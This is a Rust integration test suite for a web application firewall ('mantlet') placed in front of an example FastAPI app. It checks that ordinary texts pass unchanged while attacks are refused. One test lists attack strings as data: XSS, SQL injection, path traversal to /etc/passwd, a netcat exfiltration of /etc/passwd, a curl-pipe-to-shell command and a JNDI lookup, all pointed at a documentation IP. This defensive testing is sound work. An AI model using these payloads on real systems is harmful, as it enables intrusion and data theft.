//! The model server of `examples/samo`, a real FastAPI application, behind the real binary with the
//! example's own configuration: ordinary texts reach it unchanged, attacks do not reach it.

#![expect(clippy::unwrap_used, reason = "tests may fail loudly")]

use std::fs;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use mantlet_testkit::wire::{self, Response};
use mantlet_testkit::{
    MantletProcess, Running, free_address, left_out, poll_until, root, run_program, venv_python,
};
use serde_json::{Value, json};

const SUITE: &str = "samo-example";
const PATIENCE: Duration = Duration::from_secs(20);
/// A start of Python on a busy machine.
const START: Duration = Duration::from_secs(90);

fn folder() -> PathBuf {
    root().join("examples/samo")
}

/// The Python that has what the suite needs; otherwise the gap is on record.
fn equipped() -> Option<PathBuf> {
    let python = venv_python(&["fastapi", "uvicorn", "multipart"]);
    if python.is_none() {
        left_out(SUITE, "lacks the packages of examples/samo/requirements.txt in target/venv");
    }
    python
}

/// The application, with Mantlet in front.
struct Served {
    gate: MantletProcess,
    _application: Running,
}

impl Served {
    fn start(python: &Path) -> Self {
        let address: SocketAddr = free_address();
        let mut command = Command::new(python);
        command.args(["-m", "uvicorn", "app:app", "--log-level", "warning", "--port"]);
        command.arg(address.port().to_string()).current_dir(folder()).stdin(Stdio::null());
        let mut application = Running::start(command);
        let is_ready = poll_until(START, || match application.look() {
            Some(finished) => Some(Err(finished)),
            None => std::net::TcpStream::connect(address).is_ok().then_some(Ok(())),
        });
        assert_eq!(is_ready, Some(Ok(())), "it did not start: {}", application.stderr());
        let config = fs::read_to_string(folder().join("mantlet.toml")).unwrap();
        let document = folder().join("openapi.json");
        let config = config
            .replace("http://127.0.0.1:8000", &format!("http://{address}"))
            .replace("\"openapi.json\"", &format!("{document:?}"));
        let builder = MantletProcess::builder(env!("CARGO_BIN_EXE_mantlet"));
        Self { gate: builder.config(&config).start(), _application: application }
    }

    fn ask(&self, method: &str, path: &str, kind: &str, body: &[u8]) -> Response {
        let headers: &[(&str, &str)] =
            if kind.is_empty() { &[] } else { &[("Content-Type", kind)] };
        wire::request(self.gate.address(), method, path, headers, body)
    }

    fn json(&self, method: &str, path: &str, body: &Value) -> Response {
        self.ask(method, path, "application/json", body.to_string().as_bytes())
    }

    fn get(&self, path: &str) -> Response {
        self.ask("GET", path, "", b"")
    }
}

fn encoded(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric();
    text.bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// What people write, much of which the guide's patterns refuse or change.
const ORDINARY: [&str; 16] = [
    "I don't know why, but O'Brien's letter made me glad.",
    "please select an option from the list",
    "Transcript: so I said \"that's data: numbers, dates, names\" & left.",
    "If a < b and c > d then we're fine; 3 << 4 isn't.",
    "My function: def add(a, b): return a + b  # it works!",
    "for (let i = 0; i < 10; i++) { total += prices[i]; }",
    "It costs $5 (updated; was $7) -- 100% worth it!",
    "He drops by on Monday, and we union members delete nothing.",
    "I love R&D, C++ and 50/50 odds; contact me @ home or at me@example.org",
    "Once upon a time = now. On Friday = fun.",
    "Ich war heute sehr traurig. Überall Regen, aber Grüße aus Köln!",
    "Je suis heureux; c'est l'été, n'est-ce pas ?",
    "今日はとても嬉しいです。ありがとう！",
    "أنا سعيد اليوم جدا",
    "😀😢 what a day 🎉👩‍👩‍👧‍👦",
    "line one\nline two\ttabbed\r\nline three",
];

// covers: SAMO-16, SAMO-17 (binary)
#[test]
fn samo_d20_d21_ordinary_texts_reach_the_model_as_they_were_written() {
    let Some(python) = equipped() else { return };
    let served = Served::start(&python);
    for text in ORDINARY {
        let answer = served.json("POST", "/analyze", &json!({"text": text, "threshold": 0.2}));
        assert_eq!(answer.status, 200, "{text}: {}", answer.text());
        assert_eq!(answer.json()["text"], text, "nothing is changed on the way");
        let form = format!("text={}&threshold=0.2", encoded(text));
        let answer = served.ask(
            "POST",
            "/analyze/form",
            "application/x-www-form-urlencoded",
            form.as_bytes(),
        );
        assert_eq!((answer.status, &answer.json()["text"]), (200, &json!(text)), "{text}");
        let entry = json!({"text": text, "day": "2026-01-31", "tags": ["home", "it's"]});
        let answer = served.json("POST", "/journal", &entry);
        assert_eq!((answer.status, &answer.json()["text"]), (201, &json!(text)), "{text}");
        let answer = served.get(&format!("/journal?q={}&limit=5&tag=a&tag=b", encoded(text)));
        assert_eq!(answer.status, 200, "{text}: {}", answer.text());
    }
    let batch = served.json("POST", "/analyze/batch", &json!({"texts": ORDINARY}));
    assert_eq!(batch.json()["results"].as_array().unwrap().len(), ORDINARY.len());
    assert_eq!(served.get("/health").json(), json!({"status": "ok"}));
    assert_eq!(served.get("/journal/1").json()["text"], ORDINARY[0]);
    assert_eq!(served.get("/journal/999").status, 404, "the application's own answer");
}

// covers: SAMO-17, SAMO-22, SAMO-35 (binary)
#[test]
fn samo_d19_attacks_are_refused_wherever_a_text_may_stand() {
    let Some(python) = equipped() else { return };
    let served = Served::start(&python);
    for attack in [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "hello <svg/onload=alert(1)",
        "<a href=\"jAvascript:alert(1)\">x</a>",
        "' UNION SELECT username, password FROM users--",
        "1'; DROP TABLE predictions; --",
        "' OR '1'='1' --",
        "../../../../../../etc/passwd",
        "; cat /etc/passwd | nc 203.0.113.9 4444",
        "$(curl http://203.0.113.9/x | sh)",
        "${jndi:ldap://203.0.113.9/a}",
    ] {
        let entry = json!({"text": "fine", "day": "2026-01-31", "title": attack});
        let form = format!("text={}", encoded(attack));
        for answer in [
            served.json("POST", "/analyze", &json!({"text": attack})),
            served.json("POST", "/analyze/batch", &json!({"texts": ["fine", attack]})),
            served.json("POST", "/journal", &entry),
            served.ask(
                "POST",
                "/analyze/form",
                "application/x-www-form-urlencoded",
                form.as_bytes(),
            ),
            served.get(&format!("/journal?q={}", encoded(attack))),
        ] {
            assert_eq!(
                (answer.status, &answer.json()["code"]),
                (403, &json!("waf-attack")),
                "{attack}"
            );
        }
        // Where no text may stand, an attack is no valid value, and is not repeated.
        let answer = served.get(&format!("/journal?limit={}", encoded(attack)));
        assert_eq!((answer.status, &answer.json()["code"]), (422, &json!("schema-violation")));
        assert!(!answer.text().contains(attack), "{}", answer.text());
    }
}

// covers: SAMO-16, SAMO-50, YMERA-10 (binary)
#[test]
fn the_bounds_of_the_models_hold_before_the_application_is_asked() {
    let Some(python) = equipped() else { return };
    let served = Served::start(&python);
    let text = |text: &str| json!({"text": text});
    for (body, expected) in [
        (text(&"ä".repeat(10_000)), None),
        (text(&"a".repeat(10_001)), Some("#/text maxLength")),
        (text(""), Some("#/text minLength")),
        (json!({}), Some("#/text required")),
        (json!({"text": 5}), Some("#/text type")),
        (json!({"text": "x", "threshold": 1.01}), Some("#/threshold maximum")),
        (json!({"text": "x", "threshold": -0.01}), Some("#/threshold minimum")),
        (json!({"text": "x", "threshold": "0.5"}), Some("#/threshold type")),
        (json!({"text": "x", "user_id": 1}), Some("#/user_id unevaluatedProperties")),
    ] {
        let answer = served.json("POST", "/analyze", &body);
        let problem = answer.json();
        let fault = problem["errors"].as_array().map(|errors| {
            let text = |key: &str| errors[0][key].as_str().unwrap().to_owned();
            format!("{} {}", text("pointer"), text("keyword"))
        });
        assert_eq!(fault.as_deref(), expected, "{:.80}", body.to_string());
        assert_eq!(answer.status, if expected.is_some() { 422 } else { 200 });
    }
    let part = |head: &str, content: &[u8]| {
        [
            format!("--B\r\nContent-Disposition: form-data; {head}\r\n\r\n").as_bytes(),
            content,
            b"\r\n",
        ]
        .concat()
    };
    let recording = |size: usize| {
        let head = "name=\"recording\"; filename=\"note.wav\"\r\nContent-Type: audio/wav";
        part(head, &vec![7; size])
    };
    let kind = "multipart/form-data; boundary=B";
    let language = |text: &str| part("name=\"language\"", text.as_bytes());
    for (parts, status) in [
        (recording(200_000), 200),
        ([recording(9), language("de")].concat(), 200),
        ([recording(9), language("d';--")].concat(), 422),
        (language("de"), 422),
        ([recording(9), part("name=\"admin\"", b"1")].concat(), 422),
    ] {
        let answer = served.ask("POST", "/voice", kind, &[parts, b"--B--\r\n".to_vec()].concat());
        assert_eq!(answer.status, status, "{}", answer.text());
    }
    // What announces too much is refused before a byte of it is read.
    for (path, kind, size) in
        [("/analyze", "application/json", 300_000), ("/voice", kind, 11 << 20)]
    {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: a\r\nContent-Type: {kind}\r\nContent-Length: {size}\r\n\r\n"
        );
        let answer = wire::send_raw(served.gate.address(), head.as_bytes());
        assert_eq!(answer.statuses(), [413], "{path}");
    }
    let settings = json!({"model": "small-1"});
    assert_eq!(served.json("PUT", "/admin/settings", &settings).status, 403);
}

#[test]
fn addresses_and_queries_that_the_document_does_not_list_are_refused() {
    let Some(python) = equipped() else { return };
    let served = Served::start(&python);
    for (method, path, status) in [
        ("GET", "/docs", 404),
        ("GET", "/openapi.json", 404),
        ("PUT", "/health", 405),
        ("GET", "/journal/0", 422),
        ("GET", "/journal/2147483648", 422),
        ("GET", "/journal?emotion=bored", 422),
        ("GET", "/journal?since=2026-02-30", 422),
        ("GET", "/journal?limit=5&limit=6", 422),
        ("GET", "/health?debug=true", 422),
    ] {
        assert_eq!(served.ask(method, path, "", b"").status, status, "{method} {path}");
    }
}

// covers: SAMO-52 (binary)
#[test]
fn samo_d49_d51_d52_d53_refusals_carry_every_header_and_name_the_true_client() {
    let Some(python) = equipped() else { return };
    let served = Served::start(&python);
    let spoofed = [("X-Forwarded-For", "203.0.113.77"), ("X-Real-IP", "203.0.113.78")];
    let refused = wire::get(served.gate.address(), "/journal?limit=0", &spoofed);
    assert_eq!(refused.status, 422);
    let event = served.gate.wait_for_event(|event| event["reason"] == "schema-violation", PATIENCE);
    assert_eq!(
        (&event["source.ip"], &event["evidence"]),
        (&json!("127.0.0.1"), &json!("query/limit minimum"))
    );
    let unknown = served.get("/journal/999");
    let fine = served.get("/health");
    for (what, answer) in
        [("refusal", &refused), ("error of the application", &unknown), ("answer", &fine)]
    {
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}");
        assert!(answer.header("x-frame-options").is_some(), "{what}");
        assert!(
            !answer.header("x-xss-protection").is_some_and(|value| value.starts_with('1')),
            "{what}"
        );
        assert!(answer.header("server").is_none_or(|value| !value.contains("uvicorn")), "{what}");
    }
    let policy = refused.header("content-security-policy").unwrap();
    for directive in ["default-src", "object-src", "base-uri", "form-action", "frame-ancestors"] {
        assert!(policy.contains(directive), "{policy}");
    }
}

// covers: SAMO-51, SAMO-53 (binary)
#[test]
fn samo_d54_credentials_never_go_with_any_header() {
    let text = "[upstream]\nurl = \"http://127.0.0.1:8000\"\n[guards.cors]\norigins = [\"https://app.example.org\"]\nheaders = [\"*\"]\ncredentials = true\n";
    let folder = mantlet_testkit::TempFolder::new();
    let config = folder.write("mantlet.toml", text).into_os_string();
    let arguments = ["check".into(), "--config".into(), config];
    let finished = run_program(env!("CARGO_BIN_EXE_mantlet"), &arguments, PATIENCE);
    assert_ne!(finished.code, Some(0), "{finished:#?}");
    assert!(finished.stderr.contains("`credentials = true`"), "{finished:#?}");
}

#[test]
fn the_document_is_the_applications_own_and_the_example_is_accepted() {
    let arguments =
        ["check".into(), "--config".into(), folder().join("mantlet.toml").into_os_string()];
    let finished = run_program(env!("CARGO_BIN_EXE_mantlet"), &arguments, PATIENCE);
    assert_eq!(finished.code, Some(0), "{finished:#?}");
    let Some(python) = equipped() else { return };
    let script = folder().join("app.py").into_os_string();
    let written = run_program(&python, &[script], START);
    let written: Value = serde_json::from_str(&written.stdout).unwrap();
    let kept = fs::read_to_string(folder().join("openapi.json")).unwrap();
    assert_eq!(written, serde_json::from_str::<Value>(&kept).unwrap(), "write openapi.json anew");
}
